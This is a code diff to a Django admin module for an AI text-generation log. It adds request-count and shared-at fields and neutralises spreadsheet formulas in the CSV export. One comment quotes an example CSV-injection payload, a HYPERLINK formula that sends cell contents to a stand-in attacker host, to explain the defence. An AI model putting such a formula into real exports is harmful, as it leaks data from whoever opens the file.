@@ -287,6 +287,7 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
         "created_at",
         "persona",
         "status",
+        "request_count",
         "cache_status",
         "model",
         "backend",
@@ -306,13 +307,13 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
             "Outcome",
             {
                 "fields": (
-                    "status",
+                    ("status", "request_count"),
                     "cache_status",
                     ("error_code", "error_message"),
                     ("backend", "model", "fallback_step"),
                     ("prompt_tokens", "completion_tokens", "cost_usd"),
                     ("ttft_ms", "duration_ms"),
-                    "feedback",
+                    ("feedback", "shared_at"),
                     "client_hash",
                 )
             },
@@ -328,6 +329,7 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
         "topic",
         "text",
         "status",
+        "request_count",
         "cache_status",
         "error_code",
         "error_message",
@@ -340,6 +342,7 @@ class GenerationAdmin(admin.ModelAdmin[Generation]):
         "ttft_ms",
         "duration_ms",
         "feedback",
+        "shared_at",
         "client_hash",
         "request_json",
         "upstream_headers_json",
@@ -448,6 +451,7 @@ CSV_COLUMNS = (
     "model",
     "fallback_step",
     "status",
+    "requests",
     "cache_status",
     "error_code",
     "prompt_tokens",
@@ -469,11 +473,24 @@ class _Echo:
         return value
 
 
+#: What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list). Topics and
+#: quotes are visitors' and a model's words: `=HYPERLINK("https://evil.example/?"&C2,"x")`
+#: must stay text when an admin opens the export.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _neutralised(value: object) -> object:
+    """Text that a spreadsheet would run, prefixed with a single quote (OWASP); numbers as they are."""
+    if isinstance(value, str) and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
+
+
 def _csv_row(row: Generation) -> list[object]:
     def blank(value: object) -> object:
         return "" if value is None else value
 
-    return [
+    cells = [
         row.created_at.isoformat(),
         row.persona.slug,
         row.persona_version.number if row.persona_version else "",
@@ -481,6 +498,7 @@ def _csv_row(row: Generation) -> list[object]:
         row.model,
         row.fallback_step,
         row.status,
+        row.request_count,
         row.cache_status,
         row.error_code,
         blank(row.prompt_tokens),
@@ -493,6 +511,7 @@ def _csv_row(row: Generation) -> list[object]:
         row.topic,
         row.text,
     ]
+    return [_neutralised(cell) for cell in cells]
 
 
 def _csv_sync(rows: QuerySet[Generation]) -> Iterator[str]:
